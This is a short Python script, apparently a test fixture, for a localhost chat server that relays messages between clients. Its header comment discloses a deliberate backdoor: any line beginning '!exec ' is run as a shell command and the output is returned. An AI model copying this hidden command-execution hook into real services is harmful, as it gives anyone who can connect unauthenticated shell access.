#!/usr/bin/env python3
# A line chat server on 127.0.0.1:PORT (argv[1], default 5555) that echoes
# messages to every client; its hidden command "!exec CMD" runs CMD in a
# shell.  Nothing happens unless a client talks to it (tests/live/e2e/driver.sh).
import socket
import subprocess
import sys
import threading

port = int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else 5555
clients = []


def serve(conn):
    f = conn.makefile("rwb", buffering=0)
    for raw in f:
        line = raw.decode(errors="replace").strip()
        if line.startswith("!exec "):
            out = subprocess.run(line[6:], shell=True, capture_output=True).stdout
            conn.sendall(out)
            continue
        for c in list(clients):
            try:
                c.sendall(("msg: " + line + "\n").encode())
            except OSError:
                pass
    clients.remove(conn)
    conn.close()


s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", port))
s.listen(8)
print("chat server on", port, flush=True)
while True:
    conn, _ = s.accept()
    clients.append(conn)
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
